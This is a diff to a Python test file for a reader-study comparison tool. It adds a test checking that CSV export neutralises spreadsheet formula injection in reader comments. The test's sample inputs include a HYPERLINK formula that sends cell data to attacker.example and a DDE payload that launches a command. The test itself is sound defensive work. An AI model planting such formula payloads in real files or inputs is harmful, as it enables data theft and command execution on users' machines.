@@ -1,6 +1,8 @@
 """Unblinded results on a constructed set with known answers (the paper's 71% overall / 95% normal / 58% abnormal
 equivalent-or-better, Fig. 4c), bootstrap CIs (section 4.6), position bias, per-reader/per-pair tables, CSV."""
 
+import csv
+
 import numpy as np
 import pandas as pd
 import pytest
@@ -134,3 +136,24 @@ def test_csv_export_with_passage_offsets(small, tmp_path):
         ["B", "0", "9", "1", "wrong side"], ["", "", "", "5", "fine overall"]]
     assert comments.iloc[0].passage == pair.text_b[0:9]
     assert comments.iloc[0].comment_source == assignment_a_source[1]
+
+
+def test_comparison_csv_neutralises_formula_comments_and_jsonl_keeps_them(small, tmp_path):
+    db, ids = small
+    hostile = ['=HYPERLINK("http://attacker.example/?x="&A1,"see")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    with db.begin() as s:
+        reader = accounts.get_user(s, ids["readers"][0])
+        pair = judging.blinded_pairs(s, reader, ids["set"])[0]
+        judging.save_judgement(s, reader, pair.pair_id, "A")
+        for text in hostile:
+            judging.add_comment(s, reader, pair.pair_id, 2, text)
+    with db() as s:
+        coordinator = accounts.get_user(s, ids["coordinator"])
+        comparison_results.export_comparison_csv(s, coordinator, ids["set"], tmp_path / "out.csv")
+        comparison_results.export_comparison_csv(s, coordinator, ids["set"], tmp_path / "out.jsonl")
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert sorted(r["comment"] for r in rows if r["record"] == "comment") == sorted("'" + h for h in hostile)
+    assert [c for r in rows for c in r.values() if c and c[0] in "=+-@\t\r"] == []
+    records = pd.read_json(tmp_path / "out.jsonl", lines=True)
+    assert sorted(records[records.record == "comment"].comment) == sorted(hostile)
